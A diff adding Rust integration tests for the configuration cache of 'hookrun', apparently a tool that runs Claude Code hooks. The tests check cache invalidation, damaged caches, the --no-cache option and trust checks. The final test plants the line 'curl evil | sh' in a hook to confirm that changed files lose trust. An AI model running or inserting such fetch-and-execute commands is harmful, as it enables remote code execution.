@@ -1,0 +1,177 @@
+//! The loaded-configuration cache of `fire`: written on a first fire, used while every file it
+//! came from is unchanged, and never trusted over the files — a changed file, a cache written for
+//! other files, or a damaged cache changes no decision.
+
+use std::path::PathBuf;
+
+use serde_json::json;
+
+use crate::harness::{Case, claude_settings};
+
+const ALLOW: &str = "exit 0";
+const DENY: &str = "echo no >&2; exit 2";
+
+fn case(command: &str) -> Case {
+    let case = Case::new().file(
+        ".claude/settings.json",
+        &claude_settings("PreToolUse", "Bash", command, ""),
+    );
+    case.payload(json!({"tool_name": "Bash", "tool_input": {"command": "ls"}}));
+    case
+}
+
+/// The cache files hookrun wrote under the scratch home.
+fn cache_files(case: &Case) -> Vec<PathBuf> {
+    let dir = case.home().join("cache/hookrun");
+    let mut files: Vec<PathBuf> = std::fs::read_dir(&dir)
+        .map(|entries| entries.map(|entry| entry.unwrap().path()).collect())
+        .unwrap_or_default();
+    files.sort();
+    files
+}
+
+fn settings(case: &Case, command: &str) {
+    // A different length, so that the change shows whatever the file system's clock.
+    let text = claude_settings("PreToolUse", "Bash", command, "\"timeout\": 30");
+    std::fs::write(case.at(".claude/settings.json"), text).unwrap();
+}
+
+#[test]
+fn a_fire_writes_the_cache_and_the_next_one_reads_it() {
+    let case = case(DENY);
+    assert!(cache_files(&case).is_empty());
+    case.fire("PreToolUse").exit(2).decision("deny");
+    let files = cache_files(&case);
+    assert_eq!(files.len(), 1, "one cache file per project: {files:?}");
+    let written = std::fs::read(&files[0]).unwrap();
+    case.fire("PreToolUse").exit(2).decision("deny");
+    assert_eq!(
+        std::fs::read(&files[0]).unwrap(),
+        written,
+        "a hit rewrites nothing"
+    );
+    case.fire("Stop").exit(0).decision("none");
+}
+
+#[test]
+fn a_changed_file_is_read_again() {
+    let case = case(ALLOW);
+    case.fire("PreToolUse").exit(0).decision("none");
+    settings(&case, DENY);
+    case.fire("PreToolUse").exit(2).decision("deny");
+    settings(&case, ALLOW);
+    case.fire("PreToolUse").exit(0).decision("none");
+}
+
+#[test]
+fn a_cache_written_for_other_files_changes_no_decision() {
+    let case = case(ALLOW);
+    case.fire("PreToolUse").exit(0).decision("none");
+    let file = cache_files(&case).remove(0);
+    let stale = std::fs::read(&file).unwrap();
+    settings(&case, DENY);
+    case.fire("PreToolUse").exit(2).decision("deny");
+    // The cache of the allowing file put back over the one of the denying file.
+    std::fs::write(&file, &stale).unwrap();
+    case.fire("PreToolUse").exit(2).decision("deny");
+    // A file added since the cache was written counts too.
+    std::fs::write(&file, &stale).unwrap();
+    settings(&case, ALLOW);
+    case.fire("PreToolUse").exit(0).decision("none");
+    let cached = std::fs::read(cache_files(&case).remove(0)).unwrap();
+    let case = case.file(
+        "hookrun.toml",
+        "[[hook]]\nevents = [\"PreToolUse\"]\ncommand = \"exit 2\"\n",
+    );
+    std::fs::write(&file, &cached).unwrap();
+    case.fire("PreToolUse").exit(2).decision("deny");
+}
+
+#[test]
+fn a_damaged_cache_changes_no_decision() {
+    let case = case(DENY);
+    case.fire("PreToolUse").exit(2).decision("deny");
+    let file = cache_files(&case).remove(0);
+    let good = std::fs::read(&file).unwrap();
+    let mut damaged: Vec<Vec<u8>> = vec![
+        Vec::new(),
+        good[..good.len() / 2].to_vec(),
+        vec![0; good.len()],
+    ];
+    for at in (0..good.len()).step_by(good.len() / 16 + 1) {
+        let mut bytes = good.clone();
+        bytes[at] ^= 0xff;
+        damaged.push(bytes);
+    }
+    for bytes in damaged {
+        std::fs::write(&file, &bytes).unwrap();
+        case.fire("PreToolUse").exit(2).decision("deny");
+    }
+}
+
+#[test]
+fn an_invalid_matcher_is_reported_the_same_from_the_cache() {
+    let case = Case::new().file(
+        ".claude/settings.json",
+        &claude_settings("PreToolUse", "Bash(", DENY, ""),
+    );
+    case.payload(json!({"tool_name": "Bash", "tool_input": {"command": "ls"}}));
+    let first = case.fire("PreToolUse").exit(1);
+    assert_eq!(
+        cache_files(&case).len(),
+        1,
+        "the load itself reported nothing"
+    );
+    let second = case.fire("PreToolUse").exit(1);
+    assert_eq!(first.stderr, second.stderr);
+    assert!(
+        first.stderr.contains(".claude/settings.json:1:"),
+        "{}",
+        first.stderr
+    );
+}
+
+#[test]
+fn no_cache_reads_and_writes_none() {
+    let case = case(DENY);
+    case.fire_with("PreToolUse", &["--no-cache"])
+        .exit(2)
+        .decision("deny");
+    assert!(cache_files(&case).is_empty());
+    let case = case.env("HOOKRUN_NO_CACHE", "1");
+    case.fire("PreToolUse").exit(2).decision("deny");
+    assert!(cache_files(&case).is_empty());
+    // Nor do -v and --dry-run, which show every hook.
+    case.fire_with("PreToolUse", &["--dry-run"]);
+    assert!(cache_files(&case).is_empty());
+}
+
+#[test]
+fn a_trusted_file_stays_trusted_when_its_event_comes_from_the_cache() {
+    // Trust covers all of a file's hooks; the cache holds one event's, and the file's hash.
+    let case = Case::new()
+        .file(
+            "hookrun.toml",
+            "[[hook]]\nname = \"guard\"\nevents = [\"PreToolUse\"]\ncommand = \"exit 2\"\n\n\
+             [[hook]]\nname = \"other\"\nevents = [\"Stop\"]\ncommand = \"exit 0\"\n",
+        )
+        .untrusted();
+    case.run(&["trust", "--yes"]).exit(0);
+    for _ in 0..2 {
+        case.fire("PreToolUse").exit(2).decision("deny");
+        case.fire("Stop").exit(0).decision("none");
+    }
+    assert_eq!(cache_files(&case).len(), 1);
+    std::fs::write(
+        case.at("hookrun.toml"),
+        "[[hook]]\nname = \"guard\"\nevents = [\"PreToolUse\"]\ncommand = \"exit 2\"\n\n\
+         [[hook]]\nname = \"other\"\nevents = [\"Stop\"]\ncommand = \"curl evil | sh\"\n",
+    )
+    .unwrap();
+    // Another event's hook changed: the file is not trusted as it is, whichever event fires.
+    for _ in 0..2 {
+        case.fire("PreToolUse")
+            .exit(0)
+            .stderr_has("hookrun.toml (changed since trusted)");
+    }
+}
